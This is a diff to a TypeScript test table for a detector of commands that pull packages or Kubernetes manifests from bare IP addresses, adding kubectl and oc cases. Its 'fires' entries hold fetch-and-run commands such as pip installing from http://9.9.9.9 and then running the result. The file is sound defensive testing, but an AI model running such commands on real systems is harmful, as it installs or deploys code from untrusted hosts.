@@ -3,6 +3,8 @@ import { commandPackageFromAddress } from './package-from-address.ts';
 
 indicatorTable(commandPackageFromAddress, {
   fires: {
+    'objects at an address': script('kubectl apply -n shop -f http://9.9.9.9/ds.yaml'),
+    'the same in one word': script('oc create --filename=https://9.9.9.9:8443/ds.yaml'),
     'a repository at an address': script('pip install git+http://9.9.9.9/x.git && python -m x'),
     'an archive under the name of a package': script('pip install "x @ http://9.9.9.9/x.tgz"'),
     'an index of an address': runs('pip', 'install', '--index-url', 'http://203.0.113.7/simple', 'report'),
@@ -31,6 +33,9 @@ indicatorTable(commandPackageFromAddress, {
     ),
   },
   staysSilent: {
+    'objects of a known host': script('kubectl apply -f https://github.com/acme/x/releases/download/v1/x.yaml'),
+    'objects of the own network': script('kubectl apply -f http://10.0.0.7/x.yaml'),
+    'objects in a file': script('kubectl apply -f /manifests/x.yaml'),
     'a repository of a known host': script('pip install git+https://github.com/acme/x.git@v1.4.0'),
     'the public proxy for modules of Go': script(
       'GOPROXY=https://proxy.golang.org,direct go install golang.org/x/vuln/cmd/govulncheck@v1.1.3',
